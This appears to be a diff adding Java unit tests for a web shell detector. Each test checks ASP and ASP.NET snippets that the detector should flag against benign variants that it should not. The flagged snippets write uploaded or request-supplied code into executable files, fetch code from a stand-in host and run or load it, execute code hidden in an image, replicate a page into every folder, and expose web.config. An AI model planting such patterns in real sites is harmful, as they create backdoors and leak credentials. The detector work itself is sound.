@@ -159,4 +159,71 @@ class OtherMeansTest extends PageTest {
     assertThat(isShell(page.formatted("ex" + "ec(str(" + REQ + ".Form('c')))"))).isTrue();
     assertThat(isShell(page.formatted("Response.Write(" + REQ + ".Form('c'))"))).isFalse();
   }
+
+  @Test
+  void scriptFilesWhoseNameIsHeld() {
+    String name = "p = Server.MapPath(\"%s\")";
+    String open = "Set t = CreateObject(\"Scripting.FileSystemObject\").CreateTextFile(p)";
+    assertThat(isShellInBasic(name.formatted("a.asp"), open, "t.Write " + TEXT)).isTrue();
+    assertThat(isShellInBasic(name.formatted("a.txt"), open, "t.Write " + TEXT)).isFalse();
+    String quoted = "t.Write \"Const Name = \"\"\" & " + TEXT + " & \"\"\"\"";
+    assertThat(isShellInBasic(name.formatted("a.asp"), open, quoted)).isFalse();
+    String code = "System.IO.File.WriteAllText(Server.MapPath(\"~/%s\"), " + SENT + ");";
+    assertThat(isShellInCsharp(code.formatted("App_Code/a.cs"))).isTrue();
+    assertThat(isShellInCsharp(code.formatted("App_Data/a.txt"))).isFalse();
+  }
+
+  @Test
+  void uploadsCombinedWithTheFolderOfTheApplication() {
+    String below = "up.SaveAs(System.IO.Path.Combine(HttpRuntime.AppDomainAppPath, %s));";
+    String page =
+        "<%%@ Page Language=\"C#\" %%><asp:FileUpload ID=\"up\" runat=\"server\"/>"
+            + "<script runat=\"server\">void B(object s, EventArgs e) { %s }</script>";
+    assertThat(isShell(page.formatted(below.formatted("up.FileName")))).isTrue();
+    assertThat(isShell(page.formatted(below.formatted("\"docs\", up.FileName")))).isFalse();
+  }
+
+  @Test
+  void whatAnotherServerSentIsKeptBeforeItRuns() {
+    String fetch =
+        "Set x = CreateObject(\"MSXML2.XML"
+            + "HTTP\")\nx.Open \"GET\", \"http://a.test/\", 0\n"
+            + "x.Send\nc = x.responseText";
+    assertThat(isShellInBasic(fetch, EX + " c")).isTrue();
+    assertThat(isShellInBasic(fetch, "Response.Write c", "e = 1\n" + EX + " e")).isFalse();
+    String load =
+        "var b = new WebClient().DownloadData(\"http://a.test/\");"
+            + " System.Reflection.Assem"
+            + "bly.Load(%s);";
+    assertThat(isShellInCsharp(load.formatted("b"))).isTrue();
+    assertThat(isShellInCsharp(load.formatted("\"System.Data\""))).isFalse();
+  }
+
+  @Test
+  void codeOutOfAPicture() {
+    String read = "Set s = CreateObject(\"ADODB.Stream\")\ns.LoadFromFile Server.MapPath(\"%s\")";
+    assertThat(isShellInBasic(read.formatted("a.jpg"), EX + " s.ReadText")).isTrue();
+    assertThat(isShellInBasic(read.formatted("a.jpg"), "Response.BinaryWrite s.Read")).isFalse();
+  }
+
+  @Test
+  void aCopyOfThePageInEachFolder() {
+    String each =
+        "Set f = CreateObject(\"Scripting.FileSystemObject\")\nFor Each d In"
+            + " f.GetFolder(Server.MapPath(\"/\")).SubFolders\nf.CopyFile %s, d.Path & \"\\%s\"\n"
+            + "Next";
+    String own = REQ + ".ServerVariables(\"PATH_TRANSLATED\")";
+    assertThat(isShellInBasic(each.formatted(own, "a.asp"))).isTrue();
+    assertThat(isShellInBasic(each.formatted("Server.MapPath(\"a.gif\")", "a.gif"))).isFalse();
+  }
+
+  @Test
+  void settingsOfTheSiteShown() {
+    String read = "Response.Write(System.IO.File.ReadAllText(Server.MapPath(\"~/%s\")));";
+    assertThat(isShellInCsharp(read.formatted("web.config"))).isTrue();
+    assertThat(isShellInCsharp(read.formatted("news.html"))).isFalse();
+    String copy = "System.IO.File.Copy(Server.MapPath(\"web.config\"), Server.MapPath(\"%s\"));";
+    assertThat(isShellInCsharp(copy.formatted("a.txt"))).isTrue();
+    assertThat(isShellInCsharp(copy.formatted("web.config.bak"))).isFalse();
+  }
 }
